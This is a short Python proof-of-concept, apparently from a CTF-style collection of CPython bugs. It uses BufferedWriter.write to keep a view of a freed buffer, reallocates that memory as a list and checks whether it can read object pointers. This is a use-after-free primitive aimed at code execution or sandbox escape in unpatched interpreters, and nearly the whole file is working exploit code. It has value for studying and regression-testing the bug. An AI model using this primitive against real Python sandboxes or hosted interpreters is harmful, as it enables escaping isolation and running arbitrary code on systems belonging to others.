# technique: the same with BufferedWriter.write
# goal: code
# mended: later releases
# source: pwn.win 2022
import io


class Raw(io.RawIOBase):
    def write(self, buffer):
        views.append(buffer)
        return len(buffer)

    def writable(self):
        return True


views = []
writer = io.BufferedWriter(Raw(), 8192)
writer.write(b'x' * 4096)
writer.flush()
del writer
data = bytearray(8192)
for size in range(8100, 8300):
    data = [None] * (8192 // 8)
    if bytes(views[0][:8]) == id(None).to_bytes(8, 'little'):
        print('ESCAPED a view of a list', flush=True)
        break
